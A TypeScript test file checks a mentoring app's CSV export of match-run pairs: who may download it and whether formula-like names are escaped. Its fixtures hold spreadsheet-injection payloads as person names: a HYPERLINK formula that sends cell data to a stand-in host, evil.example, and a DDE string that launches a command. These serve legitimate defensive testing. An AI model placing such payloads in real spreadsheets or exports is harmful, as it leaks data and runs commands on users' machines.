import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import { eq } from 'drizzle-orm';
import { matchRunPairs } from '../../db/schema.ts';
import { createSignedInUser, createTwoOrganisations } from '../../testing/factories.ts';
import { insertEnrolmentsBulk, insertPeopleBulk } from '../../testing/match-run-factories.ts';
import { addCoordinator, createProgram } from '../../testing/program-factories.ts';
import { createTestApp, type TestApp } from '../../testing/test-app.ts';
import { runMatchRunNow } from './match-runs.service.ts';

const hyperlink = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for your results")';

describe('the pairs export of a run', () => {
  let t: TestApp;
  let admin: string;
  let member: string;
  let otherAdmin: string;
  let coordinator: string;
  let programId: string;
  let runId: string;
  const url = () => `/api/programs/${programId}/match-runs/${runId}/pairs.csv`;

  before(async () => {
    t = await createTestApp();
    const orgs = await createTwoOrganisations(t.ctx.db);
    admin = orgs.admin.cookie;
    member = orgs.member.cookie;
    otherAdmin = orgs.otherAdmin.cookie;
    const program = await createProgram(t.ctx.db, orgs.org.id, { status: 'matching', name: 'Grow “2026”' });
    programId = program.id;
    const staff = await createSignedInUser(t.ctx.db, orgs.org.id);
    await addCoordinator(t.ctx.db, orgs.org.id, program.id, staff.user.id);
    coordinator = staff.cookie;
    const people = await insertPeopleBulk(t.ctx.db, orgs.org.id, [
      { name: '@SUM(1+1)*cmd|" /C calc"!A0', level: 8 },
      { name: hyperlink, level: 3 },
      { name: '-2+3', level: 3 },
      { name: 'Plain, Person', level: 3 },
    ]);
    await insertEnrolmentsBulk(t.ctx.db, orgs.org.id, program.id, [
      { personId: people[0]!, role: 'mentor', capacity: 2, profile: { skillsOffered: ['sql'] } },
      { personId: people[1]!, role: 'mentee', profile: { skillsWanted: ['sql'] } },
      { personId: people[2]!, role: 'mentee', profile: { skillsWanted: ['sql'] } },
      { personId: people[3]!, role: 'mentee' },
    ]);
    const created = await t.call('POST', `/api/programs/${programId}/match-runs`, admin, { mode: 'optimal' });
    runId = created.json().id;
  });
  after(() => t.close());

  it('is refused until the run has pairs, to members who are not staff, and to another organisation', async () => {
    assert.equal((await t.call('GET', url(), admin)).statusCode, 409);
    await runMatchRunNow(t.ctx, runId);
    assert.equal((await t.call('GET', url(), member)).statusCode, 403);
    assert.equal((await t.call('GET', url(), otherAdmin)).statusCode, 404);
    assert.equal((await t.call('GET', url(), coordinator)).statusCode, 200);
  });

  it('writes names that look like formulas as text, so a spreadsheet never runs them', async () => {
    const response = await t.call('GET', url(), admin);
    assert.equal(response.statusCode, 200);
    assert.match(response.headers['content-type'] as string, /^text\/csv/);
    assert.match(
      response.headers['content-disposition'] as string,
      /attachment; filename="Grow-2026-run-1-pairs\.csv"/,
    );
    const rows = parse(response.body, { columns: true }) as Record<string, string>[];
    assert.equal(rows.length, 3);
    const byMentee = new Map(rows.map((row) => [row.mentee, row]));
    const evil = byMentee.get(`'${hyperlink}`);
    assert.ok(evil, `the HYPERLINK mentee is written with a leading quote: ${response.body}`);
    assert.equal(evil.mentor, `'@SUM(1+1)*cmd|" /C calc"!A0`);
    assert.match(evil.why, /skills \+\d+\.\d\d \(1 of 1 wanted skills: sql\)/);
    assert.ok(byMentee.has("'-2+3"));
    assert.equal(byMentee.get('Plain, Person')?.status, 'unmatched');
    for (const row of rows)
      for (const cell of Object.values(row)) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `cell ${cell}`);
  });

  it('explains the pairs of a run solved before explanations were stored in the same words', async () => {
    const before = (await t.call('GET', url(), admin)).body;
    await t.ctx.db.update(matchRunPairs).set({ explanation: null }).where(eq(matchRunPairs.runId, runId));
    assert.equal((await t.call('GET', url(), admin)).body, before);
  });
});
